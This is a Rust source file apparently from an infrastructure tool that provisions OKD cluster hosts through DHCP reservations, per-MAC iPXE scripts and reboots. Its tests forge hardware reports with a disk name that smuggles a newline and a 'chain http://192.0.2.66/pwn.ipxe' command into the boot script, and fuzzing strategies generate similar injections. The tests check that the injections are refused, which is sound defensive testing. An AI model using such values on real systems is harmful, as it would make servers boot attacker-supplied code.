//! One role's phase: enough hosts, bound to logical hosts of that role, reserved, scripted,
//! rebooted.

use async_trait::async_trait;
use std::collections::HashMap;

use harmony::domain::capability::{DhcpHostBinding, HttpFile};
use harmony::domain::interpret::{Interpret, InterpretName};
use harmony::domain::inventory::HostRole;
use harmony::domain::{
    ChangeAction, ExecutionMode, InterpretError, Inventory, ObjectChange, Outcome, Score,
    ValidationError, report_progress,
};
use harmony_types::Version;

use super::acquire::{HostIndex, acquire, fail};
use super::install_disk::install_disk;
use super::reboot::{Reboot, reboot_step};
use super::{OkdInstallation, OkdTopology, capability_error, host_script, plan_bindings, version};

/// Brings up the hosts of one role (bootstrap, control plane or workers).
#[derive(Debug, Clone, derive_new::new)]
pub struct OkdHostsScore {
    /// The role whose hosts this phase brings up.
    role: HostRole,
    /// The installation the hosts boot.
    install: OkdInstallation,
}

impl OkdHostsScore {
    fn title(&self) -> &'static str {
        match self.role {
            HostRole::Bootstrap => "OKD bootstrap host",
            HostRole::ControlPlane => "OKD control plane",
            HostRole::Worker => "OKD workers",
        }
    }
}

impl<T: OkdTopology> Score<T> for OkdHostsScore {
    fn name(&self) -> String {
        self.title().into()
    }

    fn create_interpret(&self) -> Box<dyn Interpret<T>> {
        Box::new(self.clone())
    }

    fn parameters(&self) -> serde_json::Value {
        serde_json::json!({ "role": self.role, "kernel": self.install.kernel })
    }

    fn validate_on(&self, topology: &T) -> Result<(), ValidationError> {
        topology.layout().validate()?;
        let op = topology.operator();
        if topology.mode() == ExecutionMode::Apply
            && !topology.layout().hosts_for(self.role).is_empty()
            && !op.assumes_yes()
            && !op.can_prompt()
            && topology.host_bmcs().is_empty()
        {
            return Err(ValidationError::new(
                "--yes",
                format!(
                    "the {} phase asks the operator to reboot the hosts it sets up, and there is no terminal to ask on",
                    self.role
                ),
                "re-run with --yes (you reboot the listed hosts yourself), give their BMCs with --bmc (Harmony boots them), or run on a terminal",
            ));
        }
        Ok(())
    }
}

#[async_trait]
impl<T: OkdTopology> Interpret<T> for OkdHostsScore {
    fn name(&self) -> InterpretName {
        InterpretName("OkdHosts")
    }

    fn version(&self) -> Version {
        version()
    }

    async fn execute(
        &self,
        inventory: &Inventory,
        topology: &T,
    ) -> Result<Outcome, InterpretError> {
        let layout = topology.layout();
        let logical = layout.hosts_for(self.role);
        if logical.is_empty() {
            return Ok(Outcome::noop(format!(
                "the topology declares no {} hosts",
                self.role
            )));
        }
        let mut changes: Vec<ObjectChange> = Vec::new();
        report_progress(format!("finding {} {} host(s)", logical.len(), self.role));
        let candidates = acquire(self.role, inventory, topology, &mut changes).await?;

        let existing = topology
            .host_bindings()
            .await
            .map_err(capability_error("reading bindings", &changes))?;
        let planned = plan_bindings(self.role, logical, &existing, &candidates).map_err(|e| {
            fail(
                &format!("binding {} hosts", self.role),
                &changes,
                e.to_string(),
            )
        })?;
        for b in &planned {
            let c = topology
                .bind_host(b)
                .await
                .map_err(capability_error("recording bindings", &changes))?;
            changes.push(c);
        }
        // The inventory persists only when applying; in render and plan mode its rows are
        // scaffolding for the files, summarised instead of reported as changes.
        let inventory_changes: Vec<ObjectChange> = std::mem::take(&mut changes);

        let hosts = topology
            .known_hosts()
            .await
            .map_err(capability_error("reading the inventory", &changes))?;
        let index = HostIndex::new(&hosts);
        report_progress("DHCP reservations");
        // The first logical host of each name, as a search from the front would find it.
        let mut ips = HashMap::with_capacity(logical.len());
        for l in logical.iter().rev() {
            ips.insert(&l.name, l.ip);
        }
        let reservations: Vec<DhcpHostBinding> = planned
            .iter()
            .filter_map(|b| {
                ips.get(&b.logical).map(|ip| DhcpHostBinding {
                    mac: b.mac,
                    ip: *ip,
                    hostname: b.logical.clone(),
                    // The host's other NICs get the same address (one lease at a time).
                    other_macs: index
                        .by_id(&b.host)
                        .map(|i| {
                            hosts[i]
                                .macs
                                .iter()
                                .filter(|m| **m != b.mac)
                                .copied()
                                .collect()
                        })
                        .unwrap_or_default(),
                })
            })
            .collect();
        let c = topology
            .ensure_bindings(&reservations)
            .await
            .map_err(capability_error("DHCP reservations", &changes))?;
        changes.extend(c);

        report_progress("iPXE scripts");
        let base = topology.base_url();
        let mut files = Vec::with_capacity(planned.len());
        for b in &planned {
            let facts = index.by_id(&b.host).map(|i| &hosts[i]);
            let disk = install_disk(
                facts,
                self.role,
                topology.root_device_rules(),
                &self.install.default_install_disk,
            )
            .map_err(capability_error("iPXE script", &changes))?;
            let text = host_script(&base, layout, b, &self.install, &disk)
                .map_err(capability_error("iPXE script", &changes))?;
            files.push(HttpFile {
                path: format!("ipxe/{}.ipxe", b.mac.to_hyphenated()),
                content: text.into_bytes(),
            });
        }
        let c = topology
            .ensure_http_files(&files)
            .await
            .map_err(capability_error("iPXE scripts", &changes))?;
        changes.extend(c);

        let listed: Vec<String> = planned
            .iter()
            .map(|b| format!("{} ({}, host {})", b.logical, b.mac, b.host))
            .collect();
        let mut details = vec![format!("{} hosts: {}", self.role, listed.join(", "))];
        let changed = changes
            .iter()
            .chain(&inventory_changes)
            .any(|c| c.action != ChangeAction::Unchanged);
        if topology.mode() == ExecutionMode::Apply {
            match reboot_step(self.role, &planned, changed, topology, &changes).await? {
                Reboot::GoOn(detail) => details.push(detail),
                Reboot::Declined(message) => {
                    let mut all = inventory_changes;
                    all.extend(changes);
                    let mut o = Outcome::from_changes(all);
                    o.status = harmony::domain::OutcomeStatus::Failed;
                    o.message = message;
                    o.details = details;
                    return Ok(o);
                }
            }
        } else {
            details.push(format!(
                "{} mode: no host is asked to reboot",
                topology.mode()
            ));
        }
        if topology.mode() == ExecutionMode::Apply {
            let mut all = inventory_changes;
            all.extend(changes);
            changes = all;
        } else {
            let new = inventory_changes
                .iter()
                .filter(|c| c.action != ChangeAction::Unchanged)
                .count();
            details.push(format!(
                "inventory: {new} row(s) recorded in memory only ({} mode does not persist the inventory)",
                topology.mode()
            ));
        }
        // Where each host's boots went so far (apply mode: render and plan boot nothing).
        let mut data = None;
        if topology.mode() == ExecutionMode::Apply {
            let macs: Vec<_> = planned.iter().map(|b| b.mac).collect();
            let timelines = topology
                .timelines(&macs)
                .await
                .map_err(capability_error("reading boot timelines", &changes))?;
            details.extend(
                timelines
                    .iter()
                    .filter(|t| !t.boots.is_empty())
                    .map(|t| format!("timeline {}", t.line())),
            );
            data = Some(serde_json::json!({ "timeline": timelines }));
        }
        let mut outcome = Outcome::from_changes(changes);
        outcome.details = details;
        outcome.data = data;
        Ok(outcome)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::okd::node_identity::tests_layout;
    use crate::okd::templates::host_script_shape;
    use harmony::domain::capability::HostBinding;
    use harmony::domain::inventory::PhysicalHost;
    use harmony_types::{HostName, Url};
    use proptest::prelude::TestCaseError;
    use proptest::{prop_assert, prop_assert_eq};

    /// The tester's forged report: a disk name carrying a newline and an iPXE command.
    fn forged() -> PhysicalHost {
        serde_json::from_value(serde_json::json!({
            "id": "host-a", "hostname": null, "macs": ["52:54:00:00:00:31"],
            "cpu_count": 4, "memory_bytes": 8589934592u64,
            "disks": [{"name": "sda\nchain http://192.0.2.66/pwn.ipxe", "size_bytes": 1u64 << 30,
                       "rotational": false}]
        }))
        .unwrap()
    }

    #[test]
    fn a_disk_name_from_the_inventory_cannot_add_a_line_to_the_script() {
        let host = forged();
        let binding = HostBinding {
            host: host.id.clone(),
            role: HostRole::Worker,
            logical: HostName::parse("worker0").unwrap(),
            mac: host.macs[0],
        };
        let base = Url::parse("http://10.0.0.2:8080/").unwrap();
        let install = OkdInstallation::default();
        let rendered = install_disk(
            Some(&host),
            HostRole::Worker,
            &[],
            &install.default_install_disk,
        )
        .and_then(|disk| host_script(&base, &tests_layout(), &binding, &install, &disk));
        match rendered {
            Ok(script) => panic!("the forged disk name reached the script:\n{script}"),
            Err(e) => {
                let e = e.to_string();
                assert!(e.contains("host-a") && e.contains("disks[0].name"), "{e}");
                assert!(!e.contains('\n'), "the name is escaped in the error: {e}");
            }
        }
        // Defence in depth: the renderer itself refuses such a device, naming host and field.
        let e = host_script(
            &base,
            &tests_layout(),
            &binding,
            &install,
            "/dev/sda\nchain http://192.0.2.66/pwn.ipxe",
        )
        .unwrap_err()
        .to_string();
        assert!(e.contains("host-a") && e.contains("install_dev"), "{e}");
        for bad in ["/dev/sda x=y", "/dev/sda${x}", "/dev/sda#", ""] {
            assert!(
                host_script(&base, &tests_layout(), &binding, &install, bad).is_err(),
                "{bad}"
            );
        }
        let ok = host_script(&base, &tests_layout(), &binding, &install, "/dev/nvme0n1").unwrap();
        host_script_shape(&ok, "/dev/nvme0n1").unwrap();
    }

    /// Arbitrary reports, hostile and real, for the property tests.
    mod arbitrary {
        use proptest::prelude::*;
        use serde_json::{Value, json};

        /// Text an attacker might send: real names, near misses, punctuation that means
        /// something to iPXE, a shell or a log, any unicode, and the tester's injection.
        pub(super) fn text() -> impl Strategy<Value = String> {
            prop_oneof![
                "(sd|vd|xvd)[a-z]{1,3}|hd[a-z]|nvme[0-9]{1,3}n[0-9]{1,3}|mmcblk[0-9]{1,3}",
                "[a-z]{2,6}[0-9]{0,4}(n[0-9]{1,4})?(p[0-9])?",
                "[a-z0-9 \n\r\t#${}&|;:/=.\"'\\\\-]{0,24}",
                any::<String>(),
                "sd[a-z]{1,3}(\n| )(chain|kernel|imgexec|boot|#|\\$\\{net0/ip\\}) ?http://192.0.2.66/pwn.ipxe",
            ]
        }

        pub(super) fn real_disk_name() -> impl Strategy<Value = String> {
            "(sd|vd|xvd)[a-z]{1,3}|hd[a-z]|nvme[0-9]{1,3}n[0-9]{1,3}|mmcblk[0-9]{1,3}"
        }

        fn number() -> impl Strategy<Value = Value> {
            prop_oneof![
                any::<u64>().prop_map(Value::from),
                any::<u32>().prop_map(Value::from),
                (1u64..=1 << 24).prop_map(|s| Value::from(s * 512)),
                (1u64 << 20..=64u64 << 40).prop_map(Value::from),
                Just(json!(0)),
                Just(json!(-1)),
                Just(json!(u64::MAX)),
                Just(json!(1u64 << 63)),
                Just(json!(1e300)),
                Just(json!("4")),
            ]
        }

        fn disk() -> impl Strategy<Value = Value> {
            (text(), number(), any::<bool>())
                .prop_map(|(n, s, r)| json!({"name": n, "size_bytes": s, "rotational": r}))
        }

        fn mac() -> impl Strategy<Value = Value> {
            prop_oneof![
                "52:54:00:[0-9a-f]{2}:[0-9a-f]{2}:[0-9a-f]{2}",
                "[0-9a-f]{2}(:[0-9a-f]{2}){5}",
                text(),
            ]
            .prop_map(Value::from)
        }

        fn maybe(s: impl Strategy<Value = String>) -> impl Strategy<Value = Value> {
            proptest::option::of(s).prop_map(|o| o.map_or(Value::Null, Value::from))
        }

        /// A report body as JSON, any field possibly absurd.
        pub(super) fn report() -> impl Strategy<Value = Value> {
            (
                prop_oneof!["host-[a-z0-9]{1,8}", text()],
                maybe(prop_oneof!["[a-z]{1,10}", text()]),
                maybe(prop_oneof![text(), "[ -~]{1,128}", "[ -~]{129,300}"]),
                prop_oneof![
                    proptest::collection::vec(mac(), 0..4),
                    proptest::collection::vec(mac(), 60..70),
                ],
                number(),
                number(),
                prop_oneof![
                    4 => proptest::collection::vec(disk(), 0..4),
                    1 => proptest::collection::vec(disk(), 250..262),
                ],
                maybe(prop_oneof![
                    "[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}",
                    text(),
                ]),
            )
                .prop_map(|(id, hostname, serial, macs, cpus, memory, disks, uuid)| {
                    json!({"id": id, "hostname": hostname, "serial": serial, "macs": macs,
                           "cpu_count": cpus, "memory_bytes": memory, "disks": disks,
                           "uuid": uuid})
                })
        }

        /// A real report with up to three fields (or the first disk's name) replaced by
        /// hostile values.
        pub(super) fn mutated_report() -> impl Strategy<Value = Value> {
            let hostile = prop_oneof![
                text().prop_map(Value::from),
                number(),
                proptest::collection::vec(disk(), 0..3).prop_map(Value::from),
                proptest::collection::vec(mac(), 0..3).prop_map(Value::from),
                Just(Value::Null),
            ];
            (
                real_report(),
                proptest::collection::vec((0usize..10, hostile, text()), 0..4),
            )
                .prop_map(|(mut body, changes)| {
                    const KEYS: [&str; 8] = [
                        "id",
                        "hostname",
                        "serial",
                        "macs",
                        "cpu_count",
                        "memory_bytes",
                        "disks",
                        "uuid",
                    ];
                    for (field, value, name) in changes {
                        match KEYS.get(field) {
                            Some(key) => body[key] = value,
                            None => match body["disks"].as_array_mut() {
                                Some(disks) if disks.first().is_some_and(Value::is_object) => {
                                    disks[0]["name"] = name.into()
                                }
                                Some(disks) => disks.push(
                                    json!({"name": name, "size_bytes": 512, "rotational": false}),
                                ),
                                None => {}
                            },
                        }
                    }
                    body
                })
        }

        /// A report as the agent sends it from real hardware: always accepted.
        pub(super) fn real_report() -> impl Strategy<Value = Value> {
            (
                proptest::collection::btree_set(0u32..0xff_ffff, 1..4),
                1u32..=4096,
                1u64 << 20..=64u64 << 40,
                proptest::collection::btree_map(
                    real_disk_name(),
                    ((1u64..=1 << 40), any::<bool>()),
                    0..6,
                ),
                proptest::option::of("[ -~]{1,128}"),
            )
                .prop_map(|(macs, cpus, memory, disks, serial)| {
                    let macs: Vec<String> = macs
                        .iter()
                        .map(|m| {
                            format!(
                                "52:54:00:{:02x}:{:02x}:{:02x}",
                                m >> 16,
                                (m >> 8) & 0xff,
                                m & 0xff
                            )
                        })
                        .collect();
                    let disks: Vec<Value> = disks
                        .into_iter()
                        .map(|(n, (sectors, r))| {
                            json!({"name": n, "size_bytes": sectors * 512, "rotational": r})
                        })
                        .collect();
                    json!({"id": "host-a", "hostname": null, "serial": serial, "macs": macs,
                           "cpu_count": cpus, "memory_bytes": memory, "disks": disks,
                           "uuid": "4c4c4544-0042-3510-8051-b7c04f4e3232"})
                })
        }
    }

    /// Parses and validates `body` as the discovery endpoint does; for an accepted report,
    /// renders the per-MAC script as the workers phase does and checks its shape.
    fn through_edge_and_renderer(body: &serde_json::Value) -> Result<bool, TestCaseError> {
        let bytes = serde_json::to_vec(body).unwrap();
        let Ok(report) = serde_json::from_slice::<harmony_types::DiscoveryReport>(&bytes) else {
            return Ok(false);
        };
        if report.validate().is_err() {
            return Ok(false);
        }
        let host = report.host;
        let binding = HostBinding {
            host: host.id.clone(),
            role: HostRole::Worker,
            logical: HostName::parse("worker0").unwrap(),
            mac: host.macs[0],
        };
        let base = Url::parse("http://10.0.0.2:8080/").unwrap();
        let install = OkdInstallation::default();
        // Any disk qualifies (min-size 1 B): the non-rotational first, then the smallest.
        let rules =
            [harmony::domain::capability::RootDeviceRule::parse("worker=min-size:1B").unwrap()];
        let disk = install_disk(
            Some(&host),
            HostRole::Worker,
            &rules,
            &install.default_install_disk,
        )
        .map_err(|e| TestCaseError::fail(format!("accepted report, refused disk: {e}")))?;
        let expected = host
            .disks
            .iter()
            .min_by(|a, b| {
                (a.rotational, a.size_bytes, &a.name).cmp(&(b.rotational, b.size_bytes, &b.name))
            })
            .map_or("/dev/sda".to_string(), |d| format!("/dev/{}", d.name));
        prop_assert_eq!(&disk, &expected);
        let script = host_script(&base, &tests_layout(), &binding, &install, &disk)
            .map_err(|e| TestCaseError::fail(format!("accepted report, refused script: {e}")))?;
        // Same lines, same commands in the same order, one kernel line with the expected
        // arguments, whatever the report said.
        prop_assert_eq!(script.lines().count(), 6, "{}", script);
        prop_assert_eq!(script.matches("\nkernel ").count(), 1, "{}", script);
        if let Err(e) = host_script_shape(&script, &expected) {
            return Err(TestCaseError::fail(format!("{e}:\n{script}")));
        }
        prop_assert!(!script.contains("192.0.2.66"), "{}", script);
        Ok(true)
    }

    fn config() -> proptest::test_runner::Config {
        proptest::test_runner::Config {
            cases: 256,
            failure_persistence: None,
            ..proptest::test_runner::Config::default()
        }
    }

    /// Runs `strategy`'s reports through the edge and the renderer; returns how many were
    /// accepted and how many refused.
    fn run(
        strategy: impl proptest::strategy::Strategy<Value = serde_json::Value>,
    ) -> (usize, usize) {
        let counts = std::cell::Cell::new((0, 0));
        let mut runner = proptest::test_runner::TestRunner::new(config());
        let result = runner.run(&strategy, |body| {
            let (a, r) = counts.get();
            counts.set(if through_edge_and_renderer(&body)? {
                (a + 1, r)
            } else {
                (a, r + 1)
            });
            Ok(())
        });
        if let Err(e) = result {
            panic!("{e}");
        }
        counts.get()
    }

    #[test]
    fn no_report_changes_the_shape_of_a_script() {
        // Real reports with up to three fields replaced by hostile values: many are accepted,
        // so the rendering side of the property is exercised, not only the refusals.
        let (accepted, refused) = run(arbitrary::mutated_report());
        assert!(
            accepted >= 32 && refused >= 32,
            "{accepted} accepted, {refused} refused"
        );
        // Reports with every field arbitrary: almost all refused, none may change a script.
        run(arbitrary::report());
    }

    #[test]
    fn real_reports_are_accepted_and_rendered() {
        let (accepted, refused) = run(arbitrary::real_report());
        assert_eq!((accepted, refused), (256, 0));
    }
}
